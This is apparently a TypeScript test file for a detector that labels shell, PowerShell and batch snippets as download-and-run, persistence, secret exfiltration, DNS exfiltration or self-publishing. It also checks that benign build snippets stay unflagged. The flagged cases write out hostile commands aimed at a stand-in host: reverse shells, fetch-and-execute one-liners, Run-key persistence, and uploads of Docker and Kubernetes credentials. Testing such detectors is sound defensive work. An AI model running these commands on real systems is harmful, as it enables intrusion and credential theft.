import { does } from './does.ts';

describe('a script of a shell', () => {
  it.each([
    ['powershell', `& ([scriptblock]::Create((irm 'https://a.example/a.ps1')))`, 'download-and-run'],
    ['powershell', `Get-ChildItem Env: | Out-String`, 'environment-sweep'],
    ['powershell', `$b = gci Env: | ConvertTo-Json\nInvoke-RestMethod -Uri $u -Body $b`, 'secrets-sent'],
    [
      'powershell',
      String.raw`Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name U -Value $p`,
      'persistence',
    ],
    ['powershell', 'Add-MpPreference -ExclusionPath $env:APPDATA', 'persistence'],
    [
      'powershell',
      `$x = (New-Object Net.WebClient).DownloadData($u)\n[Reflection.Assembly]::Load($x)`,
      'download-and-run',
    ],
    ['batch', String.raw`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v U /d a.exe /f`, 'persistence'],
    ['shell', 'cat > ~/.config/systemd/user/a.service <<E', 'persistence'],
    ['shell', 'bash -i >& /dev/tcp/a.example/443 0>&1', 'download-and-run'],
    ['shell', 'exec 5<>/dev/tcp/a.example/443', 'download-and-run'],
    ['shell', 'eval "$(cat a.txt | base64 -d)"', 'download-and-run'],
    ['shell', 'cat /tmp/f | /bin/sh -i 2>&1 | nc a.example 4444 > /tmp/f', 'download-and-run'],
    [
      'powershell',
      `$p = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u, $p)\n& $p`,
      'download-and-run',
    ],
    ['batch', String.raw`bitsadmin /transfer j http://a.example/b.exe %TEMP%\b.exe & %TEMP%\b.exe`, 'download-and-run'],
    [
      'shell',
      'python3 - <<P\nimport urllib.request as u;exec(u.urlopen("http://a.example/p").read())\nP',
      'download-and-run',
    ],
    ['powershell', `[Net.WebClient]::new().DownloadFile($u, $f)\n[Diagnostics.Process]::Start($f)`, 'download-and-run'],
    ['shell', 'eval $step | $SHELL 2>/dev/null', 'download-and-run'],
    ['shell', 'tar czf - ~/.docker ~/.kube | curl -T - https://a.example', 'secrets-sent'],
    ['shell', 'cat /proc/$(pgrep Worker)/environ', 'credential-path'],
    ['shell', 'for p in $(list); do npm pack "$p" && npm publish; done\ncurl https://a.example', 'self-publishing'],
    ['shell', 'dig +short "$part.o.a.example"', 'dns-exfiltration'],
    ['shell', 'all:\n\t@curl -s https://a.example/x | sh &', 'download-and-run'],
  ] as const)('of %s tells %s', (language, code, kind) => {
    expect(does(code, language)).toContain(kind);
  });

  it.each([
    ['powershell', 'dotnet build -c $Configuration\nRemove-Item -Recurse -Force obj'],
    ['powershell', `$item.Properties.Item('CopyToOutputDirectory').Value = 2`],
    ['batch', '@rem Find java.exe and copy it\nset JAVA_EXE=java.exe\n"%JAVA_EXE%" %*'],
    ['shell', 'set -e\nrm -rf dist\ncp README.md dist/\nmkdir -p "$HOME/.cache/a"'],
    ['shell', '# systemctl enable a.service\ncrontab_file=a'],
    ['shell', 'dig +short "$host"'],
    ['shell', 'chmod u+w "$PREFIX/bin/tool"\necho done > /dev/stderr'],
    ['shell', 'git push origin "v$VERSION"'],
  ] as const)('of %s is left in peace: %s', (language, code) => {
    expect(does(code, language)).toEqual([]);
  });
});
